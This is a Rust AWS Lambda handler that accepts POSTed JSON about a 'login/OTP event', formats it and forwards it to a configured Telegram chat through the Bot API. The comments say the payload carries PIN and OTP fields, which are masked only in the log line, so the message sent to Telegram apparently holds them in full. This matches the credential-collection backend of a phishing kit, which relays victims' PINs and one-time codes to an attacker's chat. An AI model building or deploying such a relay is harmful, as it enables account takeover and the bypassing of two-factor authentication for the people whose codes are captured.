//! Lambda handler for the notifier endpoint.
//!
//! This module handles:
//! - Request validation (method, configuration, body)
//! - Diagnostic logging of the payload with sensitive fields masked
//! - Message construction (delegated to `telegram::format`)
//! - Delivery to the Telegram Bot API (delegated to `telegram::client`)

use crate::api::{helpers, parsing};
use crate::core::config::AppConfig;
use crate::telegram::{TelegramClient, format};
use lambda_runtime::{Error, LambdaEvent};
use serde_json::Value;
use tracing::{error, info};

pub use self::function_handler as handler;

/// Lambda handler for the notifier endpoint.
///
/// Accepts a POST with a JSON payload describing a login/OTP event, formats
/// it into an HTML message, and relays it to the configured Telegram chat.
/// Every step is terminal on failure; at most one outbound call is made.
///
/// # Errors
///
/// Never returns `Err`: all failures are converted into a proxy response
/// with the appropriate status code and a plain-text body.
#[tracing::instrument(level = "info", skip(event))]
pub async fn function_handler(event: LambdaEvent<Value>) -> Result<Value, Error> {
    // ========================================================================
    // Method gate
    // ========================================================================

    if parsing::extract_method(&event.payload) != Some("POST") {
        return Ok(helpers::err_response(405, "Method not allowed"));
    }

    // ========================================================================
    // Configuration
    // ========================================================================

    let config = match AppConfig::from_env() {
        Ok(config) => config,
        Err(missing) => {
            error!(
                has_token = missing.has_token,
                has_chat_id = missing.has_chat_id,
                "Required Telegram configuration is missing"
            );
            return Ok(helpers::err_response(
                500,
                "Missing TELEGRAM_TOKEN or TELEGRAM_CHAT_ID",
            ));
        }
    };

    // ========================================================================
    // Body
    // ========================================================================

    let payload = match parsing::extract_payload(&event.payload) {
        Ok(payload) => payload,
        Err(e) => {
            error!("Failed to parse request body: {}", e);
            return Ok(helpers::err_response(400, "Invalid JSON"));
        }
    };

    // Observability only: PIN and OTP are masked, and serialization failure
    // falls back to a fixed literal so this can never fail the request.
    info!(
        "[login-notifier] incoming payload:\n{}",
        format::payload_log_string(&payload)
    );

    // ========================================================================
    // Format and deliver
    // ========================================================================

    let text = format::build_message(&payload);

    match TelegramClient::new(&config).send_message(&text).await {
        Ok(outcome) => {
            info!(
                status = %outcome.status,
                body = %outcome.body,
                "Telegram sendMessage response"
            );

            if outcome.is_success() {
                Ok(helpers::ok_response(&outcome.body))
            } else {
                Ok(helpers::err_response(
                    502,
                    &format!("Telegram API error: {}", outcome.body),
                ))
            }
        }
        Err(e) => {
            error!("Telegram request failed: {}", e);
            Ok(helpers::err_response(500, "Failed to contact Telegram API"))
        }
    }
}
